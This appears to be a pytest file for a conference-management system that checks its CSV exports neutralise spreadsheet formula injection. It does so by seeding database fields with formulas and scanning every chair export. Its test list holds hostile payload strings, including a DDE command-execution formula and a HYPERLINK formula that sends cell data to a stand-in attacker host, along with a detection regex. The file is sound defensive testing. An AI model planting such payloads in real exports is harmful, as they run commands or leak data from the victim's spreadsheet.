"""No list that leaves as CSV holds a formula, whoever wrote what."""

import csv
import io
import re

import pytest

from sysml.kernel.spreadsheets import csv_text, harmless
from tests.architecture.cast import Cast
from tests.architecture.test_house import modules, name

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @x", '"=1+1', "'=1+1", "＝1+1",
    "\ufeff=1+1", "\u200b=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "\0=1+1",
]  # fmt: skip
PLAIN = ["A title", "3 = 3", "a@example.org", "1-2", "", "x=1", "“quoted”", "3.5", "-3", "+4", "-0.25", "Ünï"]
DANGER = re.compile(r"^[\s\"'\ufeff\u200b\0]*[=+\-@＝＋－＠]")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_is_marked_as_text(text):
    out = harmless(text)
    assert isinstance(out, str)
    assert out.startswith("'")
    assert next(iter(csv.reader(io.StringIO(csv_text(["a"], [[text]]).split("\r\n", 1)[1]))))[0].startswith(
        "'"
    )


@pytest.mark.parametrize("text", PLAIN)
def test_everything_else_stays_as_it_is(text):
    assert harmless(text) == text


def test_numbers_and_nothing_stay():
    assert [harmless(value) for value in (-3, 2.5, None, True)] == [-3, 2.5, "", True]


def test_there_is_one_writer():
    found = {
        name(path) for path in modules() if re.search(r"csv\.(Dict)?writer", path.read_text(encoding="utf-8"))
    }
    assert found == {"sysml/kernel/spreadsheets.py"}


@pytest.fixture
def cast(db):
    """Formulas wherever a person can write."""
    from artifacts.models import Evaluator
    from committee.models import Conflict, Member
    from reviews.models import Answer, Decision, Post
    from submissions.models import Authorship, Submission
    from sysml.conference.models import Track
    from sysml.kernel.models import User

    cast = Cast()
    cast.move_to("discussion")
    evil = "=HYPERLINK(1)"
    Submission.objects.update(title=evil, title_key=evil.lower(), abstract=f"+{evil}", keywords=f"@{evil}")
    Authorship.objects.update(name=evil, affiliation=f"-{evil}")
    Member.objects.update(name=evil, affiliation=f"\t{evil}")
    Evaluator.objects.update(name=evil)
    User.objects.update(name=evil)
    Conflict.objects.update(note=evil, decided_reason=f" {evil}")
    Answer.objects.exclude(text="").update(text=f"\n{evil}")
    Post.objects.update(text=evil, signed_as=evil)
    Decision.objects.update(one_sided_reason=evil)
    Track.objects.update(slug="research")
    return cast


LISTS = (
    *(f"chair/exports/{key}.csv" for key in ("papers", "authors", "reviews")),
    *(f"chair/committee/files/{kind}.csv" for kind in ("members", "assignments", "bids", "conflicts")),
    "chair/decide/decisions.csv",
)


@pytest.mark.django_db
def test_no_list_of_the_site_holds_a_formula(cast):
    client = cast.made.client(cast.people["C"])
    met = 0
    for path in LISTS:
        answer = client.get(cast.made.url(path))
        assert answer.status_code == 200, path
        met += "HYPERLINK" in answer.content.decode()
        for row in csv.reader(io.StringIO(answer.content.decode())):
            for cell in row:
                assert (
                    not DANGER.match(cell) or cell.startswith("'") or re.fullmatch(r"-?\d+(\.\d+)?", cell)
                ), (
                    path,
                    cell,
                )
    assert met >= 6, "the formulas are there to be met"


def test_the_table_of_lists_is_whole():
    from tests.architecture.addresses import addresses

    routes = {a.route for a in addresses() if a.route.endswith(".csv") and not a.route.startswith("api/")}
    wanted = {
        re.sub(
            r"(exports|files)/\w+\.csv",
            lambda m: f"{m[1]}/<{'key' if m[1] == 'exports' else 'kind'}>.csv",
            path,
        )
        for path in LISTS
    }
    assert routes == {f"<edition>/{path}" for path in wanted}
